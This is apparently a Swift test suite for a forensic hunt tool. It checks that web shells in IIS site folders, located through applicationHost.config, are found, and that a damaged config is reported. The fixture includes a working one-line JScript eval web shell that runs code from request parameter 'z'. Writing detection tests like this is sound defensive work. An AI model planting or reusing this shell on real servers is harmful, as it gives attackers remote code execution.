import Foundation
import HuntCore
import Reports
import Testing
import TestSupport

/// Pages of every IIS site, wherever it lives, from IIS's own configuration in the collection.
@Suite(.timeLimit(.minutes(20))) struct IISSitesTests {
    static let config = """
    <?xml version="1.0" encoding="UTF-8"?>
    <configuration>
      <system.applicationHost>
        <sites>
          <site name="Default Web Site" id="1">
            <application path="/"><virtualDirectory path="/" physicalPath="%SystemDrive%\\inetpub\\wwwroot" /></application>
          </site>
          <site name="Shop" id="2">
            <application path="/"><virtualDirectory path="/" physicalPath="D:\\Sites\\Shop" /></application>
            <application path="/api"><virtualDirectory path="/" physicalPath="D:\\Sites\\ShopApi\\" /></application>
          </site>
          <site name="Everything" id="3">
            <application path="/"><virtualDirectory path="/" physicalPath="D:\\" /></application>
          </site>
          <siteDefaults><virtualDirectoryDefaults physicalPath="E:\\Defaults" /></siteDefaults>
        </sites>
      </system.applicationHost>
    </configuration>
    """
    static let shell = #"<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>"#

    @Test("A shell in another IIS site's folder is read and found; the same page outside every site is not read")
    func shellInAnotherSite() throws {
        let dir = try tempDir()
        let root = dir.appendingPathComponent("EXCH01")
        try put(root, "C/Windows/System32/inetsrv/config/applicationHost.config", Self.config)
        try put(root, "D/Sites/Shop/uploads/x.aspx", Self.shell)
        try put(root, "D/Sites/ShopApi/h.aspx", Self.shell)
        try put(root, "D/Elsewhere/y.aspx", Self.shell)
        let json = dir.appendingPathComponent("r.json")
        _ = try runCLI(["hunt", root.path, "-o", json.path, "--quiet", "--no-progress", "--host", "EXCH01"])
        let report = try JSONReport.decode(try Data(contentsOf: json))
        let found = Set(report.findings.filter { $0.severity >= .high }.map(\.evidence.path))
        #expect(found.contains("D/Sites/Shop/uploads/x.aspx"), "\(report.findings.map { "\($0.rule.title) \($0.evidence.path)" })")
        #expect(found.contains("D/Sites/ShopApi/h.aspx"))
        // Not a site's folder (a site at a drive's root is not taken as one): not read as a page.
        #expect(!report.findings.contains { $0.evidence.path == "D/Elsewhere/y.aspx" })
        #expect(report.manifest.contains { $0.path == "D/Sites/Shop/uploads/x.aspx" && $0.sha256 != nil })
        // What was not taken from the configuration is said.
        #expect(report.problems.contains { $0.message.contains(#"IIS site folder D:\ is a drive's root"#) }, "\(report.problems.map(\.message))")

        // IIS's configuration damaged: nothing is taken from it, and the hunt goes on.
        try put(root, "C/Windows/System32/inetsrv/config/applicationHost.config", "<configuration><sites><site><application><virtualDirectory physicalPath=\"D:\\Sites\\Shop\"")
        let damaged = dir.appendingPathComponent("d.json")
        let r = try runCLI(["hunt", root.path, "-o", damaged.path, "--quiet", "--no-progress", "--host", "EXCH01"])
        #expect([0, 1, 2].contains(r.status), "\(r.stderr)")
        #expect(FileManager.default.fileExists(atPath: damaged.path))
        let damagedReport = try JSONReport.decode(try Data(contentsOf: damaged))
        #expect(damagedReport.problems.contains { $0.message.contains("IIS configuration damaged") }, "\(damagedReport.problems.map(\.message))")
    }
}
